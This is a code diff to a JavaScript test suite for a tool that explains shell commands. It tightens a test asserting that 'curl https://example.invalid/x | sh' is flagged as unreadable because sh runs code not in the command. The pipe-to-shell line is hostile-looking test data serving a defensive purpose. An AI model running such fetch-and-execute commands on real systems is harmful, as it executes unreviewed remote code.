@@ -93,7 +93,8 @@ describe('a command taken apart', () => {
   });
 
   it('says what cannot be read', async () => {
-    assert.match(await commandPage('curl https://example.invalid/x | sh', folder), /Not understood/);
+    const page = await commandPage('curl https://example.invalid/x | sh', folder);
+    assert.match(page, /<h2>Not understood<\/h2><ul><li>sh runs code that is not in the command<\/li><\/ul>/);
   });
 
   it('judges without leaving anything behind', async () => {
